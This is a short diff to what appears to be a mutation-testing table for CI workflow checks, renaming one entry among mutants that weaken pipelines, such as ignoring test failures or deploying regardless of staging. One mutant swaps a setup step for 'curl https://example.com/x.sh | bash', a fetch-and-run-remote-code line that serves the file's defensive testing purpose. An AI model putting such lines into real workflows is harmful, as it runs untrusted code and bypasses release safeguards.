@@ -122,7 +122,7 @@ MUTANTS: dict[str, tuple[str, str | re.Pattern[str], str]] = {
         "check.yml", "      - run: make test\n", "      - run: make test\n        continue-on-error: true\n"),
     "deployed whatever the doctor says": (
         "deploy-environment.yml", "      - name: Deploy\n", "      - name: Deploy\n        if: always()\n"),
-    "production whatever became of staging": (
+    "production even if staging failed": (
         "deploy.yml", "    needs: staging\n", "    needs: staging\n    if: always()\n"),
     "a stranger's script": ("drift.yml", "run: make setup", "run: curl https://example.com/x.sh | bash"),
     "a release that is cut off": ("service-release.yml", "cancel-in-progress: false", "cancel-in-progress: true"),
